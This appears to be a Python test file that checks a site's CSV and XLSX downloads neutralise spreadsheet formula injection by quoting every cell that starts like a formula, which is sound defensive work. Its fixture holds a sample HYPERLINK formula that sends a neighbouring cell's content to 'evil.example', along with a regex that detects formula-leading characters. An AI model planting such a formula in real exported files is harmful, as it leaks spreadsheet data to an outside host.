"""Formulas in the form's spreadsheets (OWASP's rule for CSV injection). Whatever a contributor
writes, the downloads hold text, never a formula: the CSV quotes every field and puts a single
quote in front of a cell a spreadsheet would run; the XLSX has no formula cell at all, only text
cells. The importer never calculates a formula: a row with one in the form's columns is refused
with a sentence, text that merely starts with "=" is imported as written, and a download imports
back exactly as it went out."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from generator import form
from generator.load import load
from generator.publish import downloads

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = 'name: {bn: "জনপ্রশাসন মন্ত্রণালয়", en: "Ministry of Public Administration"}\nkind: ministry\n'
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A3,"{}")'
IDEAS = {  # slug → the form's fields, as a contributor might write them
    "mopa-hyperlink": {
        "title": {"bn": HYPERLINK.format("বিস্তারিত"), "en": HYPERLINK.format("Details")},
        "summary": {"bn": "- ৩০% কম সময়", "en": "- 30% less time"},  # a dash that is just a dash
        "service": {"running": False, "not_running_reason": "+ the server moved", "expected_result": "partly",
                    "remarks": "@SUM(1+1)"},
    },
    "mopa-quoted": {
        "title": "'=already quoted",
        "summary": "＠mention and ＝full width",
        "service": {"running": True, "remarks": "-1", "link": "https://mopa.gov.bd/=x"},
    },
}
# OWASP's characters, and their full-width forms, at the start of a cell or after spaces
RUNS = re.compile(r"^\s*[=+\-@＝＋－＠]|^[\t\r]")


def _bank(root: Path) -> Path:
    (root / "content" / "offices").mkdir(parents=True)
    (root / "content" / "ideas").mkdir()
    (root / "content" / "offices" / "mopa.yaml").write_text(OFFICE, encoding="utf-8")
    return root


@pytest.fixture
def ideas(tmp_path: Path) -> list:
    root = _bank(tmp_path / "bank")
    for slug, fields in IDEAS.items():
        data = {**fields, "kind": "simplification", "status": "implemented", "office": "mopa",
                "dates": {"implemented": "2024-01-01"}}
        (root / "content" / "ideas" / f"{slug}.md").write_text(f"---\n{json.dumps(data, ensure_ascii=False)}\n---\nবিবরণ।\n",
                                                               encoding="utf-8")
    bank, problems = load(root / "content")
    assert problems == []
    return [bank.ideas[slug].item for slug in IDEAS]


# ---- the downloads --------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["bn", "en"])
def test_the_csv_download_quotes_every_cell_a_spreadsheet_would_run(ideas, lang):
    text = downloads.csv_bytes(ideas, lang).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert records[0] == form.headers(lang)
    assert not [c for row in records for c in row if RUNS.match(c)]
    title = HYPERLINK.format("বিস্তারিত" if lang == "bn" else "Details")
    summary = "- ৩০% কম সময়" if lang == "bn" else "- 30% less time"
    assert records[1] == ["'" + title, "'" + summary, form.answer(False, lang), "'+ the server moved",
                          form.answer("partly", lang), "", "'@SUM(1+1)"]
    assert records[2] == ["''=already quoted", "'＠mention and ＝full width", form.answer(True, lang), "", "",
                          "https://mopa.gov.bd/=x", "'-1"]
    # every field is quoted, the formula ones too, as OWASP asks
    assert re.fullmatch(r'("(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+', text)


@pytest.mark.parametrize("lang", ["bn", "en"])
def test_the_xlsx_download_has_text_cells_and_no_formula(ideas, lang):
    data = downloads.xlsx_bytes(ideas, lang)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ET.fromstring(book.read("xl/styles.xml"))
    m = {"m": MAIN}
    assert sheet.findall(".//m:f", m) == [], "no formula element"
    cells = sheet.findall(".//m:c", m)
    assert len(cells) == 7 * 3 and {c.get("t") for c in cells} == {"inlineStr"}
    texts = [["".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t")) for c in row.findall("m:c", m)]
             for row in sheet.findall(".//m:row", m)]
    assert texts == [form.headers(lang)] + form.rows(ideas, lang), "the text exactly as written, no quote added"
    # a cell that starts like a formula carries Excel's quote-prefix mark, so editing it keeps it text
    quoted = {str(i) for i, xf in enumerate(styles.find("m:cellXfs", m)) if xf.get("quotePrefix") == "1"}
    assert [c.get("s") in quoted for c in cells] == [bool(RUNS.match(t.lstrip("'"))) for row in texts for t in row]
    # and a spreadsheet program reads them as text
    read = load_workbook(io.BytesIO(data)).active
    assert {c.data_type for row in read.iter_rows() for c in row} <= {"s", "inlineStr"}
    assert [[c.value or "" for c in row] for row in read.iter_rows()] == texts


# ---- the rule -------------------------------------------------------------------------------

@pytest.mark.parametrize("text, runs", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
    ("  =1", True), ("\n=1", True), ("＝1", True), ("＋1", True), ("－1", True), ("＠x", True),
    ("'=1", True), ("''+1", True), ("- 30% less time", True),
    ("1-2", False), ("a=b", False), ("", False), ("  ", False), ("'", False), ("'a", False), ("−1", False),
    ("হ্যাঁ", False), ("https://x.gov.bd/=y", False),
])
def test_which_cells_a_spreadsheet_would_run(text, runs):
    assert form.starts_formula(text) is runs
    assert form.as_text(text) == ("'" + text if runs else text)


@given(st.text())
def test_as_text_then_from_text_gives_back_any_text(text):
    written = form.as_text(text)
    assert form.from_text(written) == text
    assert not RUNS.match(written)
